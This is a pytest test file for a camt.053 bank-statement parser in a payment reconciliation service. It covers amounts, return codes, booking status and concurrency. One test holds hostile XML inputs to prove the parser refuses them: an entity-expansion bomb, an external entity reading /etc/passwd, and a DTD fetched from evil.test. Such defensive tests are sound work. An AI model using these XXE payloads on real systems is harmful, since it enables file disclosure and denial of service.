from __future__ import annotations

from concurrent.futures import ThreadPoolExecutor
from datetime import date

import pytest

from services.beneficiaries.reconciliation.camt053 import ENTRIES_AT_ONCE, NAMESPACE, read
from services.beneficiaries.reconciliation.model import UNSPECIFIED, Answer, Outcome
from shared.kernel.errors import Rejected

PAYMENT = "0191e0c400007000800000000000000a"


def transaction(
    reference: str = PAYMENT, amount: str = "2055000", currency: str = "VND", reason: str = ""
) -> str:
    returned = f"<RtrInf><Rsn><Cd>{reason}</Cd></Rsn></RtrInf>" if reason else ""
    return (
        f"<TxDtls><Refs><EndToEndId>{reference}</EndToEndId></Refs>"
        f'<Amt Ccy="{currency}">{amount}</Amt>{returned}</TxDtls>'
    )


def entry(*transactions: str, value_on: str = "2024-08-05") -> str:
    return (
        f'<Ntry><Amt Ccy="VND">2055000</Amt><ValDt><Dt>{value_on}</Dt></ValDt>'
        f"<NtryDtls>{''.join(transactions)}</NtryDtls></Ntry>"
    )


def statement(*entries: str, namespace: str = NAMESPACE) -> bytes:
    body = f"<BkToCstmrStmt><Stmt>{''.join(entries)}</Stmt></BkToCstmrStmt>"
    return f'<?xml version="1.0"?><Document xmlns="{namespace}">{body}</Document>'.encode()


def answers(content: bytes) -> list[Answer]:
    return list(read(content))


def test_a_debit_with_our_id_is_a_payment_that_was_made() -> None:
    (found,) = answers(statement(entry(transaction())))
    assert found == Answer(1, PAYMENT, 2_055_000, "VND", Outcome.SETTLED, None, date(2024, 8, 5))


def test_return_information_says_that_it_came_back_and_why() -> None:
    (found,) = answers(statement(entry(transaction(reason="AC04"))))
    assert (found.outcome, found.reason_code) == (Outcome.RETURNED, "AC04")


def test_a_return_without_a_code_is_unspecified() -> None:
    detail = transaction().replace("</TxDtls>", "<RtrInf/></TxDtls>")
    (found,) = answers(statement(entry(detail)))
    assert (found.outcome, found.reason_code) == (Outcome.RETURNED, UNSPECIFIED)


def test_rows_are_counted_through_the_file() -> None:
    found = answers(statement(entry(transaction(), transaction()), entry(transaction())))
    assert [one.row for one in found] == [1, 2, 3]


def test_an_entry_without_details_is_no_answer() -> None:
    assert answers(statement("<Ntry><Amt Ccy='VND'>1</Amt></Ntry>")) == []
    assert answers(statement()) == []


def test_a_detail_without_an_amount_takes_its_entrys() -> None:
    detail = f"<TxDtls><Refs><EndToEndId>{PAYMENT}</EndToEndId></Refs></TxDtls>"
    (found,) = answers(statement(entry(detail)))
    assert (found.amount_vnd, found.currency) == (2_055_000, "VND")


@pytest.mark.parametrize(
    ("text", "amount"),
    [
        ("2055000", 2_055_000),
        ("2055000.00", 2_055_000),
        (" 1 ", 1),
        ("2055000.50", None),
        ("-1", None),
        ("1e6", None),
        ("2,055,000", None),
        ("", None),
    ],
)
def test_an_amount_is_whole_dong_or_unreadable(text: str, amount: int | None) -> None:
    (found,) = answers(statement(entry(transaction(amount=text))))
    assert found.amount_vnd == amount


def test_another_currency_is_told() -> None:
    (found,) = answers(statement(entry(transaction(currency="USD"))))
    assert found.currency == "USD"


@pytest.mark.parametrize("text", ["", "05/08/2024", "2024-02-30", "2024-08-05Z", "2024-08-05 " + "0" * 1_000])
def test_a_day_that_is_none_is_missing(text: str) -> None:
    (found,) = answers(statement(entry(transaction(), value_on=text)))
    assert found.value_on is None


def test_a_row_without_our_id_is_kept_for_a_person() -> None:
    detail = '<TxDtls><Amt Ccy="VND">1</Amt></TxDtls>'
    (found,) = answers(statement(entry(detail)))
    assert found.reference == ""


@pytest.mark.parametrize("cut", [1, 20, 200, 400])
def test_a_truncated_file_is_refused(cut: int) -> None:
    whole = statement(entry(transaction()), entry(transaction()))
    with pytest.raises(Rejected, match="statement_broken"):
        answers(whole[:-cut])


BOMB = """<?xml version="1.0"?>
<!DOCTYPE Document [<!ENTITY a "ha"><!ENTITY b "&a;&a;&a;&a;"><!ENTITY c "&b;&b;&b;&b;">]>
<Document>&c;</Document>"""
OUTSIDE = '<!DOCTYPE d [<!ENTITY x SYSTEM "file:///etc/passwd">]><Document>&x;</Document>'
FETCHED = '<!DOCTYPE d SYSTEM "http://evil.test/x.dtd"><Document/>'


@pytest.mark.parametrize("content", [BOMB, OUTSIDE, FETCHED], ids=["bomb", "outside", "fetched"])
def test_entities_and_outside_definitions_are_refused_before_they_are_read(content: str) -> None:
    with pytest.raises(Rejected, match="DTD or entities"):
        answers(content.encode())


@pytest.mark.parametrize("encoding", ["utf-16", "utf-16-le", "utf-16-be", "utf-32"])
def test_another_encoding_hides_no_entity(encoding: str) -> None:
    text = BOMB.replace('version="1.0"', f'version="1.0" encoding="{encoding}"')
    with pytest.raises(Rejected, match="statement_broken"):
        answers(text.encode(encoding))


@pytest.mark.parametrize(
    "content",
    [
        b"",
        b"PK\x03\x04",
        b"<html><body>Sign in</body></html>",
        statement(entry(transaction()), namespace="urn:iso:std:iso:20022:tech:xsd:camt.053.001.02"),
        b"<Document/>",
        f'<Ntry xmlns="{NAMESPACE}"><TxDtls/></Ntry>'.encode(),
    ],
    ids=["empty", "zip", "html", "other version", "no namespace", "an entry alone"],
)
def test_what_is_no_camt_053_is_refused(content: bytes) -> None:
    with pytest.raises(Rejected, match="statement_broken"):
        answers(content)


@pytest.mark.parametrize("status", ["", "<Sts/>", "<Sts>BOOK</Sts>", "<Sts><Cd> BOOK </Cd></Sts>"])
def test_what_is_booked_or_says_nothing_of_it_is_an_answer(status: str) -> None:
    assert len(answers(statement(entry(transaction()).replace("<ValDt>", f"{status}<ValDt>")))) == 1


@pytest.mark.parametrize(
    "status", ["<Sts><Cd>PDNG</Cd></Sts>", "<Sts>INFO</Sts>", "<Sts><Prtry>BOOKED LATER</Prtry></Sts>"]
)
def test_what_is_not_booked_keeps_its_row_and_says_nothing(status: str) -> None:
    pending = entry(transaction()).replace("<ValDt>", f"{status}<ValDt>")
    found = answers(statement(entry(transaction()), pending, entry(transaction())))
    assert [one.row for one in found] == [1, 3]


@pytest.mark.parametrize(
    ("of_entry", "of_transaction", "outcome"),
    [
        ("", "", Outcome.SETTLED),
        ("<CdtDbtInd>DBIT</CdtDbtInd>", "", Outcome.SETTLED),
        ("<CdtDbtInd>CRDT</CdtDbtInd>", "", Outcome.RETURNED),
        ("<CdtDbtInd>CRDT</CdtDbtInd>", "<CdtDbtInd/>", Outcome.RETURNED),
        ("<CdtDbtInd>CRDT</CdtDbtInd>", "<CdtDbtInd>DBIT</CdtDbtInd>", Outcome.SETTLED),
        ("<CdtDbtInd>DBIT</CdtDbtInd>", "<CdtDbtInd>CRDT</CdtDbtInd>", Outcome.RETURNED),
    ],
)
def test_a_transaction_without_a_direction_takes_its_entrys(
    of_entry: str, of_transaction: str, outcome: Outcome
) -> None:
    detail = transaction().replace("</TxDtls>", f"{of_transaction}</TxDtls>")
    (found,) = answers(statement(entry(detail).replace("<ValDt>", f"{of_entry}<ValDt>")))
    assert found.outcome == outcome


@pytest.mark.parametrize("blank", ["\t", "\n", "&#13;", "\u0085", "\u2028", " "])
def test_no_sign_within_a_field_makes_two_of_it(blank: str) -> None:
    (found,) = answers(statement(entry(transaction(reference=f"{PAYMENT}{blank}1"))))
    assert (found.reference.split(), found.amount_vnd) == ([PAYMENT, "1"], 2_055_000)


def test_blanks_between_elements_say_nothing() -> None:
    spaced = statement(entry(transaction(), transaction(reason="AC04")), entry(transaction()))
    assert answers(spaced.replace(b"><", b">\n  <")) == answers(spaced)


def test_entries_are_counted_wherever_they_stand() -> None:
    second = f"<Stmt><Id>2</Id>{entry(transaction())}</Stmt>{entry(transaction())}"
    content = statement(entry(transaction()), entry(transaction())).replace(
        b"</Stmt>", f"</Stmt>{second}".encode()
    )
    assert [one.row for one in answers(content)] == [1, 2, 3, 4]


@pytest.mark.parametrize("size", [ENTRIES_AT_ONCE + by for by in (-1, 0, 1)] + [3_000])
def test_a_long_file_is_read_some_entries_at_a_time(size: int) -> None:
    content = statement(*(entry(transaction(amount=str(n)), transaction()) for n in range(1, size + 1)))
    found = answers(content)
    assert [one.row for one in found] == list(range(1, 2 * size + 1))
    assert [one.amount_vnd for one in found[::2]] == list(range(1, size + 1))


def test_a_statement_is_read_in_any_thread() -> None:
    content = statement(*(entry(transaction(reference=f"{PAYMENT}{n}")) for n in range(ENTRIES_AT_ONCE)))
    with ThreadPoolExecutor(3) as threads:
        assert list(threads.map(answers, [content] * 6)) == [answers(content)] * 6
